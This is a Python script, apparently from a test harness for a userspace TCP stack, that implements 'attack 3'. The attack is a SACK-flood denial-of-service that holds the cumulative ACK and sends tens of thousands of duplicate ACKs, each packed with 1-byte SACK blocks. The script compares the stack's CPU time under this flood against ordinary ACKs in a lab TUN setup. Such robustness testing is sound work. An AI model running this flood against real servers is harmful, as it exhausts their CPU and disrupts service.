"""sack.py — a hand-made receiver that downloads /bytes/N and then ACKs (attack 3).

  sack.py attack|plain --stack-pid PID [--acks 25000] [--bytes N] [--ramp 2097152] [--started FILE]
                       [--order seq|scatter]

Both modes: handshake from 10.77.1.60 (MSS 1460, SACK-permitted, window scale 7, no timestamps:
4 SACK blocks need 34 of the 40 option bytes, RFC 2018 §3), GET /bytes/N, then a ramp: RAMP bytes
received and ACKed like a delayed-ACK receiver (one cumulative ACK per 2 full segments, RFC 5681 §4.2),
so the stack's congestion window grows past 1 MiB. Then, with FILE created and the stack's CPU time
noted (utime+stime from /proc/PID/stat):

  attack  stop the cumulative ACK at A, let the stack fill its 1 MiB send buffer (everything in
          flight), then send ACKS duplicate ACKs for A, each with 4 SACK blocks of 1 byte with 1-byte
          holes between them, A+1, A+3, ... in order, or scattered (RFC 2018 §4 allows any blocks inside the window;
          the stack must not take more than a bounded time per ACK): 100,000 blocks in all.
  plain   go on downloading and send the same number of ordinary cumulative ACKs.

ACKS reach the stack: the TUN's tx_dropped counter is watched, and dropped ACKs are replaced by new
ones. MIDWAY (a file) is created when half of them have. Then it waits until the stack is idle (CPU
not moving for 1 s, SETTLE seconds at most) and prints JSON: the stack's CPU seconds while the ACKs
were sent and until it was idle (or SETTLE ended), wall seconds, ACKs, bytes in flight (attack) or
downloaded (plain).
"""
import argparse
import json
import math
import os
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
import rawtcp  # noqa: E402

WSCALE = 7
WINDOW = 16384  # << 7 = 2 MiB: never the limit; the stack's 1 MiB send buffer is
STRIDE = 7919  # a prime: the order in which SACK slots are visited


def cpu_ticks(pid):
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return int(fields[11]) + int(fields[12])


def tx_dropped(ifname):
    with open("/sys/class/net/%s/statistics/tx_dropped" % ifname) as f:
        return int(f.read())


class Download:
    """In-order receive state: data beyond a gap is ignored (the stack resends it)."""

    def __init__(self, c):
        self.c = c
        self.start = c.rcv_nxt
        self.unacked = 0
        self.highest = c.rcv_nxt
        self.acks = 0
        self.fin = False

    @property
    def received(self):
        return (self.c.rcv_nxt - self.start) & 0xFFFFFFFF

    def take(self, seg, ack_every):
        """Account one segment from the stack; ACK cumulatively every `ack_every` bytes (0: never)."""
        c = self.c
        end = (seg.seq + seg.length) & 0xFFFFFFFF
        if seg.length > 0 and ((end - self.highest) & 0xFFFFFFFF) < 0x80000000:
            self.highest = end
        if seg.flags & rawtcp.FIN:
            self.fin = True
        off = (c.rcv_nxt - seg.seq) & 0xFFFFFFFF
        if seg.length == 0 or off >= seg.length and off < 0x80000000:
            if seg.length > 0 and ack_every:
                self.ack()  # a duplicate: say where we are
            return
        if off >= 0x80000000:
            if ack_every:
                self.ack()  # a gap: a duplicate ACK asks for the missing bytes
            return
        acked_to = (c.rcv_nxt - self.unacked) & 0xFFFFFFFF
        c.rcv_nxt = end
        self.unacked += seg.length - off
        # One ACK per 2 segments' worth, also inside a TSO super-segment (as Linux acks what GRO
        # merged), so the stack's congestion window grows as it would with a real receiver.
        while ack_every and self.unacked >= ack_every:
            acked_to = (acked_to + ack_every) & 0xFFFFFFFF
            self.unacked -= ack_every
            c.send(rawtcp.ACK, ack=acked_to, window=WINDOW)
            self.acks += 1

    def ack(self):
        self.c.send(rawtcp.ACK, window=WINDOW)
        self.acks += 1
        self.unacked = 0


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=["attack", "plain"])
    p.add_argument("--stack-pid", type=int, required=True)
    p.add_argument("--acks", type=int, default=25000)
    p.add_argument("--bytes", type=int, default=1 << 30)
    p.add_argument("--ramp", type=int, default=2 << 20)
    p.add_argument("--started", default=None)
    p.add_argument("--order", choices=["seq", "scatter"], default="seq", help="attack: order of the SACKed ranges")
    p.add_argument("--dst", default="10.77.0.2")
    p.add_argument("--dport", type=int, default=80)
    p.add_argument("--ifname", default="tunstack0")
    p.add_argument("--max-seconds", type=float, default=150)
    p.add_argument("--settle", type=float, default=5, help="seconds to wait for the stack to go idle after the ACKs")
    p.add_argument("--midway", default=None, help="a file created when half the ACKs have reached the stack")
    a = p.parse_args()
    if not 1 <= a.acks <= 1_000_000 or not 1 << 20 <= a.bytes <= 1 << 30 or not 0 <= a.ramp < a.bytes:
        p.error("--acks 1..1000000, --bytes 1 MiB..1 GiB, --ramp 0..bytes")
    deadline = time.monotonic() + a.max_seconds
    raw, sn = rawtcp.Raw(), rawtcp.Sniffer(a.ifname)
    c = rawtcp.Client(raw, sn, "10.77.1.60", 42000, a.dst, a.dport)
    c.connect(window=65535, mss=1460, wscale=WSCALE, sack_ok=True)
    if c.peer_wscale is None:
        sys.exit("the stack did not offer window scaling in its SYN-ACK")
    req = ("GET /bytes/%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (a.bytes, a.dst)).encode()
    c.send(rawtcp.ACK | rawtcp.PSH, window=WINDOW, payload=req)
    c.snd_nxt = (c.snd_nxt + len(req)) & 0xFFFFFFFF
    d = Download(c)
    every = 2 * c.peer_mss

    # Ramp: an ordinary download, until RAMP bytes are in.
    while d.received < a.ramp and time.monotonic() < deadline:
        seg = c.next_segment(1.0)
        if seg is None:
            d.ack()  # nothing for a second: show the stack where we are
            continue
        d.take(seg, every)
    d.ack()

    if a.mode == "attack":
        # Hold the cumulative ACK at A; the stack sends until its send buffer is all in flight.
        A = c.rcv_nxt
        # 50 ms without new data: the flight is complete (it takes the stack a few ms to send it),
        # and the retransmission timer has not fired yet (tunstack's minimum RTO is 200 ms, as Linux's;
        # RFC 6298 (2.4) would say 1 s).
        quiet_until = time.monotonic() + 0.05
        while time.monotonic() < quiet_until and time.monotonic() < deadline:
            seg = c.next_segment(quiet_until - time.monotonic())
            if seg is not None:
                d.take(seg, 0)
                if seg.length > 0:
                    quiet_until = time.monotonic() + 0.05
        flight = (d.highest - A) & 0xFFFFFFFF
        span = max(8, flight - 2)

    if a.started:
        open(a.started, "w").close()
    cpu0, t0, drop0 = cpu_ticks(a.stack_pid), time.monotonic(), tx_dropped(a.ifname)
    delivered = sent = 0
    if a.mode == "attack":
        c.rcv_nxt = A
        # 1-byte ranges at odd offsets of the flight (1-byte holes between them), in order (seq) or
        # scattered (slot = b * STRIDE mod slots, STRIDE coprime to slots: each lands between older ones).
        slots = max(1, span // 2)
        while slots > 1 and math.gcd(STRIDE, slots) != 1:
            slots -= 1
        stride = STRIDE if a.order == "scatter" else 1
        b = backoff = 0
        while delivered < a.acks and time.monotonic() < deadline:
            burst = min(16, a.acks - delivered)
            for _ in range(burst):
                blocks = []
                for _ in range(4):
                    left = (A + 1 + 2 * ((b * stride) % slots)) & 0xFFFFFFFF
                    blocks.append((left, left + 1))
                    b += 1
                c.send(rawtcp.ACK, window=WINDOW, options=rawtcp.sack_option(blocks))
            sent += burst
            lost = tx_dropped(a.ifname) - drop0
            if sent - lost < delivered + burst:
                # The TUN's queue overflowed: the stack is behind. Back off (up to 50 ms) and go on;
                # the dropped ACKs are replaced by new ones until ACKS have reached the stack.
                backoff = min(50, backoff * 2 + 1)
                time.sleep(backoff / 1000)
            else:
                backoff = 0
            delivered = sent - lost
            if a.midway and delivered >= a.acks // 2 and not os.path.exists(a.midway):
                open(a.midway, "w").close()
    else:
        while delivered < a.acks and not d.fin and d.received < a.bytes and time.monotonic() < deadline:
            seg = c.next_segment(1.0)
            if seg is None:
                d.ack()
                continue
            before = d.acks
            d.take(seg, every)
            sent += d.acks - before
            delivered = sent  # ordinary ACKs: a few lost in the TUN's queue are counted below
            if a.midway and delivered >= a.acks // 2 and not os.path.exists(a.midway):
                open(a.midway, "w").close()
        delivered = sent - (tx_dropped(a.ifname) - drop0)
    send_secs = time.monotonic() - t0

    # The stack may still be working through queued ACKs (or retransmitting holes): wait until its
    # CPU time stops moving, SETTLE seconds at most.
    cpu_sent = cpu_ticks(a.stack_pid)
    last, still = cpu_sent, 0
    settle_end = min(deadline, time.monotonic() + a.settle)
    while still < 2 and time.monotonic() < settle_end:
        time.sleep(0.5)
        now = cpu_ticks(a.stack_pid)
        still = still + 1 if now - last <= 1 else 0
        last = now
    hz = os.sysconf("SC_CLK_TCK")
    out = {
        "mode": a.mode,
        "acks_sent": sent,
        "acks_delivered": delivered,
        "tun_tx_dropped": tx_dropped(a.ifname) - drop0,
        "stack_cpu_s": round((last - cpu0) / hz, 2),
        "stack_cpu_while_sending_s": round((cpu_sent - cpu0) / hz, 2),
        "stack_idle_at_end": still >= 2,
        "send_s": round(send_secs, 2),
        "until_idle_s": round(time.monotonic() - t0, 2),
        "ramp_bytes": a.ramp,
        "timed_out": time.monotonic() >= deadline,
    }
    if a.mode == "attack":
        out["in_flight_bytes"] = flight
        out["sack_blocks_delivered"] = 4 * delivered
        out["sack_slots"] = slots
    else:
        out["downloaded_bytes"] = d.received
    print(json.dumps(out))


if __name__ == "__main__":
    main()
